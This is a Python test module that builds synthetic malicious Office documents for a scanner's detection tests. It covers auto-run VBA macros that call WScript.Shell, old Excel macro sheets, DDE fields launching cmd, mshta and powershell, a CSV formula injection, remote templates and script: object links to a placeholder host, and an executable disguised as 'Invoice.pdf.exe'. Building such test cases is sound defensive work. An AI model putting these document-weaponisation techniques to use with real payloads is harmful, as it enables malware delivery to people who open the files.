"""Office documents that carry, fetch or start something."""

import base64
import io
import zlib
from random import Random

from tests.samples.documents import (
    compound_file,
    macro_document,
    ole1,
    ole_native,
    open_document,
    package,
    packaged,
    relationships,
    rich_text,
    rtf_object,
    vba_project,
    vba_streams,
    word_binary,
    word_fields,
    workbook_stream,
)
from tests.samples.files import pe, shortcut
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
SHELL = 'CreateObject("WScript.Shell").Run "cmd /c ver", 0'


def cases() -> list[Case]:
    """Macros, old macros, exchanges, templates from elsewhere, embedded files, locked documents and add-ins."""
    return [*_macros(), *_in_text(), *_old_macros(), *_exchanges(), *_fetched(), *_embedded(), *_locked(), *_addins()]


def _in_text() -> list[Case]:
    """Documents of plain text that office opens with their macros."""
    project = vba_project({"M": f"Sub AutoOpen()\n {SHELL}\nEnd Sub"})
    packed = b"ActiveMime\0\0\xf0\x01\x04\0\0\0".ljust(0x32, b"\0") + zlib.compress(project)
    part = b"Content-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(packed)
    archive = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n' + part + b"--b--\r\n"
    word = (
        b'<?xml version="1.0"?><w:wordDocument xmlns:w="u"><w:binData w:name="editdata.mso">'
        + base64.b64encode(packed)
        + b"</w:binData></w:wordDocument>"
    )
    flat = (
        b'<?xml version="1.0"?><pkg:package xmlns:pkg="u"><pkg:binaryData>' + base64.b64encode(project) + b"</pkg:binaryData></pkg:package>"
    )
    files = [("Lease.doc", archive), ("Lease.mht", archive), ("Lease.xml", word), ("Lease2.doc", flat)]
    return [single("office: macro in a document of plain text", name, body, "office.macro-autoexec", least=HIGH) for name, body in files]


def _macros() -> list[Case]:
    plain = {"Module1": "Sub Sort()\n  ActiveDocument.Paragraphs.Last.Range.Delete\nEnd Sub"}
    starts = {"ThisDocument": f"Private Sub Document_Close()\n  {SHELL}\nEnd Sub"}
    workbook = {"ThisWorkbook": f"Private Sub Workbook_Activate()\n {SHELL}\nEnd Sub"}
    bin_type = {"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"}
    quiet = [
        ("Minutes.docm", macro_document(plain)),
        ("Minutes.docx", macro_document(plain, part="word/theme/t.bin")),
        ("Costs.xlsm", package("xlsx", {"xl/vbaProject.bin": vba_project(plain)}, bin_type)),
        ("Minutes.doc", word_binary(extra=vba_streams(plain, root="Macros/"))),
        ("Pure.docm", macro_document(plain, directory=False)),
    ]
    loud = [
        ("Offer.docm", macro_document(starts)),
        ("Offer.doc", word_binary(extra=vba_streams(starts, root="Macros/"))),
        ("Offer.xlsm", package("xlsx", {"xl/vbaProject.bin": vba_project(workbook)}, bin_type)),
        ("Offer.xls", compound_file({"Workbook": workbook_stream([("A", 0, 0)]), **vba_streams(workbook, root="_VBA_PROJECT_CUR/")})),
        ("Offer.pptm", package("pptx", {"ppt/vbaProject.bin": vba_project({"M": f"Sub Auto_Open()\n {SHELL}\nEnd Sub"})})),
        ("Offer.dotm", macro_document({"M": f"Sub AutoNew()\n {SHELL}\nEnd Sub"})),
        ("Offer2.docm", macro_document({"M": f"Sub autoEXEC ()\n {SHELL}\nEnd Sub"}, part="word/x.dat")),
    ]
    return [
        *(single("office: macro", name, body, "office.macro") for name, body in quiet),
        *(single("office: macro that starts by itself", name, body, "office.macro-autoexec", least=HIGH) for name, body in loud),
    ]


def _old_macros() -> list[Case]:
    book = b'<?xml version="1.0"?><workbook><sheets><sheet name="m" sheetId="1" state="veryHidden"/></sheets><definedNames><definedName name="auto_open">m!$A$1</definedName></definedNames></workbook>'
    packed = package("xlsx", {"xl/workbook.xml": book, "xl/macrosheets/m.xml": b"<x/>"}, {"xl/macrosheets/m.xml": MACRO_SHEET})
    files = [
        ("Rates.xls", compound_file({"Workbook": workbook_stream([("S", 0, 0), ("M", 1, 1)])}), MEDIUM),
        ("Rates2.xls", compound_file({"Book": workbook_stream([("M", 1, 2)], auto_open=True)}), HIGH),
        ("Rates.xlsm", packed, HIGH),
        ("Rates.slk", b'ID;PWXL;N;E\nO;E\nNN;NAuto_Close;ER1C1\nC;X1;Y1;K0;ECALL("urlmon","a","JJC")\nE\n', HIGH),
        ("Rates4.xls", b"\x09\x04\x06\x00\x00\x00\x40\x00\x00\x00" + bytes(60), MEDIUM),
    ]
    return [single("office: macros of old Excel", name, body, "office.xlm", least=least) for name, body, least in files]


def _exchanges() -> list[Case]:
    link = b'<?xml version="1.0"?><externalLink><ddeLink ddeService="mshta" ddeTopic="http://files.example.net/a"/></externalLink>'
    source = '<table:table><office:dde-source office:dde-application="cmd" office:dde-topic="/c ver" office:dde-item="x"/></table:table>'
    files = [
        ("Plan.docx", package("docx", {"word/document.xml": word_fields("D", "DE", ' "cmd" "/c ver"')})),
        ("Plan2.docx", package("docx", {"word/footnotes.xml": word_fields(' DDEAUTO "powershell" "-c ver" ')})),
        ("Plan.doc", word_binary("\x13 DDEAUTO mshta http://files.example.net \x14x\x15".encode("utf-16-le"))),
        ("Plan.rtf", rich_text('{\\field{\\*\\fldinst DDEAUTO cmd.exe "/c ver"}{\\fldrslt x}}')),
        ("Plan.xlsx", package("xlsx", {"xl/externalLinks/externalLink2.xml": link})),
        ("Plan.csv", b"id,name\n1,=powershell|'-c ver'!A1\n"),
        ("Plan.xls", compound_file({"Workbook": workbook_stream([("A", 0, 0)], links=["powershell\x03-c ver"])})),
        ("Plan.ods", open_document(content=source, kind="spreadsheet")),
    ]
    return [single("office: exchange with a command", name, body, "office.dde", least=HIGH) for name, body in files]


def _fetched() -> list[Case]:
    def linked(kind: str, target: str, part: str, form: str = "docx") -> bytes:
        return package(form, {part: relationships((kind, target, True))})

    link = bytes(40) + f"https://{HOST}/x.hta".encode("utf-16-le") + b"\0\0"
    meta = f'<?xml version="1.0"?><m:d xmlns:m="m" xmlns:meta="n" xmlns:xlink="x"><meta:template xlink:href="http://{HOST}/t.ott"/></m:d>'
    files = [
        ("CV.docx", linked("attachedTemplate", f"https://{HOST}/t.dotm", "word/_rels/settings.xml.rels")),
        ("CV2.docx", linked("attachedTemplate", f"file://{HOST}/s/t.dotm", "word/_rels/settings.xml.rels")),
        ("CV3.docx", linked("oleObject", f"mhtml:http://{HOST}/a.html!x-usc:http://{HOST}/a.html", "word/_rels/document.xml.rels")),
        ("CV4.docx", linked("frame", f"http://{HOST}/f.htm", "word/_rels/webSettings.xml.rels")),
        ("CV5.docx", linked("image", f"\\\\{HOST}\\s\\i.png", "word/_rels/document.xml.rels")),
        ("CV6.docx", linked("subDocument", f"\\\\{HOST}@80\\d\\s.docx", "word/_rels/document.xml.rels")),
        ("CV.xlsx", linked("oleObject", f"https://{HOST}/o.xls", "xl/worksheets/_rels/sheet1.xml.rels", "xlsx")),
        ("CV.pptx", linked("oleObject", f"script:https://{HOST}/p.sct", "ppt/slides/_rels/slide1.xml.rels", "pptx")),
        ("CV.rtf", rich_text(f"{{\\*\\template http://{HOST}/t.dotm}}")),
        ("CV.doc", word_binary(template=f"https://{HOST}/t.dot")),
        ("CV.odt", open_document({"meta.xml": meta.encode()})),
        ("object.bin", compound_file({"\x01Ole": link, "\x03ObjInfo": bytes(6)})),
    ]
    return [single("office: template or object from elsewhere", name, body, "office.remote-template", least=HIGH) for name, body in files]


def _embedded() -> list[Case]:
    slide = b'<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>'
    native = ole_native("Invoice.pdf.exe", pe())
    files = [
        ("Tender.doc", word_binary(extra={"ObjectPool/_1/\x01Ole10Native": native})),
        ("Tender.docx", package("docx", {"word/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": native})})),
        (
            "Tender.xlsx",
            package("xlsx", {"xl/embeddings/o.bin": compound_file({"\x01Ole10Native": ole_native("a.lnk", shortcut("C:\\a.exe", "x"))})}),
        ),
        ("Tender.rtf", rich_text(rtf_object(ole1("Package", packaged("tender.js", b"x = 1"))))),
        ("Tender2.rtf", rich_text(rtf_object(ole1("Equation.3", bytes(80)), "\\objemb\\objupdate", "Equation.3"))),
        ("Tender3.rtf", rich_text(rtf_object(ole1("OLE2Link", compound_file({"a": b"1"})), "\\objautlink\\objupdate", ""))),
        ("Tender.pptx", package("pptx", {"ppt/slides/slide1.xml": slide})),
        ("Tender2.doc", word_binary(extra={"ObjectPool/_2/\x01Ole10Native": ole_native("Read.settingcontent-ms", b"<x/>")})),
    ]
    return [single("office: embedded program", name, body, "office.embedded-object", least=HIGH) for name, body in files]


def _locked() -> list[Case]:
    import msoffcrypto.format.ooxml as ooxml

    def locked(form: str, password: str) -> bytes:
        out = io.BytesIO()
        ooxml.OOXMLFile(io.BytesIO(package(form, {"docProps/t.jpg": Random(7).randbytes(9000)}))).encrypt(password, out)
        return out.getvalue()

    files = [
        ("Salaries.xlsx", locked("xlsx", "VelvetSweatshop"), HIGH),
        ("Salaries.docx", locked("docx", "another long one"), LOW),
        ("Salaries.doc", word_binary(flags=0x0100), LOW),
        ("Salaries.xls", compound_file({"Workbook": workbook_stream([("A", 0, 0)], encrypted=True)}), LOW),
    ]
    return [single("office: locked document", name, body, "office.encrypted", least=least) for name, body, least in files]


def _addins() -> list[Case]:
    manifest = b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" xmlns:vstov4="urn:schemas-microsoft-com:vsto.v4"/>'
    files = [
        ("Rates.xll", pe(library=True), HIGH),
        ("Letters.wll", pe(library=True), HIGH),
        ("Rates.dll", pe(library=True) + b"\0xlAutoOpen\0", HIGH),
        ("Rates.xlam", package("xlsx", main_type="application/vnd.ms-excel.addin.macroEnabled.main+xml"), MEDIUM),
        ("Slides.ppam", package("pptx", main_type="application/vnd.ms-powerpoint.addin.macroEnabled.main+xml"), MEDIUM),
        ("Old.xla", compound_file({"Workbook": workbook_stream([("A", 0, 0)])}), MEDIUM),
        ("Tool.vsto", manifest, MEDIUM),
    ]
    return [single("office: add-in", name, body, "office.addin", least=least) for name, body, least in files]
